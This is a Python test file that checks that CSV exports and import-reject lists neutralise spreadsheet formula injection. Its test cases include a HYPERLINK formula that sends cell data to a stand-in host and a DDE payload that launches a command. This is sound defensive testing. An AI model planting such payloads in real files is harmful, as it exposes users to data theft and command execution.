"""Whatever a shop or a customer writes, no file that people open in a spreadsheet calculates it there."""

import csv
import io
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from laurels.exchange.faults import Fault
from laurels.exchange.rejects import write_rejects
from laurels.http.api.csv_files import csv_of

BEGINNINGS = "=+-@\t\r\n\uff1d\uff0b\uff0d\uff20"
TEXTS = st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\0")) | st.builds(
    lambda begin, rest: begin + rest, st.sampled_from(BEGINNINGS), st.text("=1+-@ \"',;\r\nA")
)


def is_harmless(cell: str) -> bool:
    """A number, or a text that begins like none of the above."""
    try:
        float(cell)
    except ValueError:
        return not cell.startswith(tuple(BEGINNINGS))
    return True


@given(TEXTS)
def test_no_cell_of_a_file_is_a_formula(text: str) -> None:
    [row] = csv.reader(io.StringIO(csv_of(["x", "y"], [[text, 1]]).decode().split("\n", 1)[1], newline=""))
    assert len(row) == 2
    assert is_harmless(row[0])
    assert row[0].removeprefix("'") == text.replace("\r", " ").removeprefix("'"), "nothing else of it changes"


@pytest.mark.parametrize(
    "cell", ['=HYPERLINK("http://a.example/"&A1)', "@SUM(A1)", "\uff1d1+1", "+1+cmd|' /C calc'!A0"]
)
def test_nor_of_the_list_of_what_an_import_left_out(tmp_path: Path, cell: str) -> None:
    to = tmp_path / "rejects.csv"
    faults = [Fault(2, cell, "has to be an id", cell), Fault(3, "points", "has to be a whole number", "-5.00")]
    assert write_rejects(to, [(Path("orders.csv"), faults)]) == 2
    _, first, second = csv.reader(io.StringIO(to.read_text("utf-8"), newline=""))
    assert first == ["orders.csv", "2", f"'{cell}", f"'{cell}", "has to be an id"]
    assert second[3] == "-5.00"
